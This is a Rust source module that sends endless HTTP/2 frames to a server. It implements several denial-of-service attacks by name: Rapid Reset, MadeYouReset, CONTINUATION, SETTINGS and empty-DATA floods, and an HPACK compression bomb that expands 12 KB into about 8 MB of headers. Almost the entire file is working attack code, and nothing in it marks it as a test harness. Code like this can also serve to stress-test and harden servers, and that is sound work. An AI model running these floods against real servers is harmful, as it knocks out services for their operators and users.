//! HTTP/2 clients that send without end. `done` counts frames.

use std::sync::atomic::{AtomicU64, Ordering};

use tokio::io::{AsyncReadExt, AsyncWriteExt, split};

use super::Attack;
use crate::client::Stream;
use crate::frames::{self, END_HEADERS, END_STREAM, frame, kind};

/// Frames that are written at once.
const BATCH: u32 = 200;

/// Sends until the server ends the connection; what it says is read, so that it is not held up by that.
pub(super) async fn flood(attack: Attack, stream: Box<dyn Stream>, done: &AtomicU64) {
    let (mut reads, mut writes) = split(stream);
    let read = async {
        let mut said = vec![0; 16 << 10];
        while let Ok(1..) = reads.read(&mut said).await {}
    };
    let write = async {
        let mut words = frames::hello(&[]);
        words.extend(begin(attack));
        let mut stream = 3;
        while writes.write_all(&words).await.is_ok() {
            let (next, frames) = batch(attack, &mut stream);
            words = next;
            done.fetch_add(u64::from(frames), Ordering::Relaxed);
        }
    };
    tokio::select! {
        () = read => {}
        () = write => {}
    }
}

/// What comes before the flood, on stream 1.
fn begin(attack: Attack) -> Vec<u8> {
    match attack {
        Attack::Continuations => frame(kind::HEADERS, 0, 1, &frames::request("GET", "/")),
        Attack::EmptyData => frame(kind::HEADERS, END_HEADERS, 1, &frames::request("POST", "/body")),
        _ => Vec::new(),
    }
}

/// The next frames, and how many they are.
fn batch(attack: Attack, stream: &mut u32) -> (Vec<u8>, u32) {
    let mut words = Vec::new();
    let mut frames = 0;
    while frames < BATCH {
        let next = frames_of(attack, *stream);
        frames += u32::try_from(next.len()).unwrap_or(1).max(1);
        words.extend(next.concat());
        *stream += 2;
    }
    (words, frames)
}

fn frames_of(attack: Attack, stream: u32) -> Vec<Vec<u8>> {
    let get = || frames::request("GET", "/slow/1000");
    match attack {
        Attack::RapidReset => vec![
            frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &get()),
            frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
        ],
        Attack::MadeYouReset => vec![
            frame(kind::HEADERS, END_HEADERS, stream, &get()),
            frame(kind::WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
        ],
        Attack::Continuations => vec![frame(kind::CONTINUATION, 0, 1, &frames::fields(&[("x", "y")]))],
        Attack::Settings => vec![frame(kind::SETTINGS, 0, 0, &[])],
        Attack::EmptyData => vec![frame(kind::DATA, 0, 1, &[])],
        Attack::HpackBomb => vec![frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &bomb())],
        _ => vec![frame(kind::PING, 0, 0, b"12345678")],
    }
}

/// A field of four kilobytes that the table keeps, and then that one again, a byte each: 8 MB in 12 KB.
fn bomb() -> Vec<u8> {
    let mut block = frames::request("GET", "/");
    // A literal that is kept; the lengths are integers of HPACK: 3968 is 127 and 3841 more, seven bits at a time.
    block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0x81, 0x1e]);
    block.extend(vec![b'a'; 3968]);
    // Index 62 is the newest entry.
    block.extend(vec![0xbe; 8000]);
    block
}
